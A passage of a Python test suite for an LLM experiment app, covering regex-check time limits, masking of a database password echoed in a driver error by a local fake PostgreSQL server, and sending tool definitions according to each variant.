        Case("c1", "Say a", Conversation(), (Check("regex", r"(?=.)^(.+)+QQQ$"),)),
        Case("c2", "Say b", Conversation(), (Check("regex", r"^(.+)+QQQ$"),)),
    )
    with FakeOpenAI() as server:
        server.behaviour.reply = "a" * 40
        at = on_fake(server, stored_set(TestSet("s", cases)))
        button(at, "Run 4 cells").click().run()
        info = wait_for_the_run(at, 4, timeout_s=120)
        grid = frame_with(at, "No history")
        at.session_state["exp_grid"] = {"selection": {"rows": [], "columns": [], "cells": [(0, "Full history")]}}
        at.run()
    patterns.shutdown()
    assert not at.exception, at.exception
    assert info.status == "done"
    assert list(grid.loc["c1"]) == ["error", "error"]  # `re` only: stopped at its limit
    assert list(grid.loc["c2"]) == ["fail", "fail"]  # RE2 decides the same nesting: no match
    verdicts = frame_with(at, "verdict")
    assert verdicts["verdict"].tolist() == ["undecided"]
    assert "ran longer than 1 s on this answer and was stopped" in verdicts["why"].iloc[0]


class _EchoingPostgres:
    """A server on the PostgreSQL port that refuses every login with a message repeating the password it was
    configured with (as a misconfigured pooler or proxy may): the driver raises with that text."""

    def __init__(self, password: str) -> None:
        import socket
        import threading

        self.password = password
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        import struct

        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return  # closed
            with conn:
                while True:
                    head = conn.recv(8)
                    if len(head) < 8:
                        break
                    length, code = struct.unpack("!ii", head)
                    rest = length - 8
                    while rest > 0:
                        rest -= len(conn.recv(rest)) or rest
                    if code in (80877103, 80877104):  # SSL or GSS encryption asked first: not offered
                        conn.sendall(b"N")
                        continue
                    text = f"password {self.password} rejected by the pool".encode()
                    fields = b"SFATAL\0VFATAL\0C28P01\0M" + text + b"\0\0"
                    conn.sendall(b"E" + struct.pack("!i", 4 + len(fields)) + fields)
                    break

    def close(self) -> None:
        self.listener.close()


def test_a_driver_error_that_repeats_the_store_password_shows_it_masked(monkeypatch):
    """The driver's words go on the page, but a store URL's password they repeat does not: the page says the
    store's sentence (lib/store/storage.problem), which masks it."""
    server = _EchoingPostgres("s3cret-pass")
    try:
        monkeypatch.setenv("CONTEXT_LAB_DB", f"postgresql://lab:s3cret-pass@127.0.0.1:{server.port}/context_lab")
        at = new_app(PAGE)
        at.session_state["exp_section"] = "Test set"
        at.run()
        assert not at.exception, at.exception
        at.run()  # a note made while the page draws is shown from its next run
        errors = [e.value for e in at.error]
        store_errors = [e for e in errors if e.startswith("The experiment store (postgresql://lab:***@")]
        assert store_errors and "password *** rejected by the pool" in store_errors[0], errors
        assert "s3cret-pass" not in visible_text(at)
    finally:
        server.close()


def test_a_set_with_tools_runs_with_and_without_them_as_its_variants_say():
    """The set's tools go with each cell of a variant that sends the case's tools, none with a variant
    whose tools column says none; the estimate and the body preview are of those very bodies."""
    from lib.context.conversation import Message, ToolCall
    from lib.context.tools import ToolDefinition, ToolSettings
    from tests.app.conftest import chat_calls

    weather = ToolDefinition(
        "get_weather", "Weather in a city.", {"type": "object", "properties": {"city": {"type": "string"}}}
    )
    history = (
        Message("user", "Weather in Rome?", id="h0000"),
        Message("assistant", "", id="h0001", tool_calls=(ToolCall("call_1", "get_weather", '{"city": "Rome"}'),)),
        Message("tool", "wind 14 km/h", id="h0002", tool_call_id="call_1"),
    )
    cases = (Case("wind", "And the wind?", Conversation("inline", history), (Check("contains", "fake"),)),)
    bare = {**FULL, "name": "Without tools", "tools": "none"}
    rows = [{**FULL, "tools": "the case's"}, bare]
    with FakeOpenAI() as server:
        test_set = TestSet("Agent", cases, tools=ToolSettings((weather,), "auto"))
        at = on_fake(server, stored_set(test_set), exp_variant_rows=rows)
        at.session_state["exp_variant_rows"] = rows
        at.run()
        assert not at.exception, at.exception
        preview = " ".join(c.value for c in at.code)
        assert '"get_weather"' in preview and '"tool_call_id": "call_1"' in preview  # the first cell's body
        button(at, "Run 2 cells").click().run()
        wait_for_the_run(at, 2, timeout_s=60)
        bodies = [r.json() for r in chat_calls(server)]
    with_tools = next(b for b in bodies if "tools" in b)
    without = next(b for b in bodies if "tools" not in b)
    assert with_tools["tools"] == [weather.as_api()] and with_tools["tool_choice"] == "auto"
    assert "tool_choice" not in without
    assert without["messages"][2]["tool_calls"][0]["id"] == "call_1"  # the round is sent, only the tools not
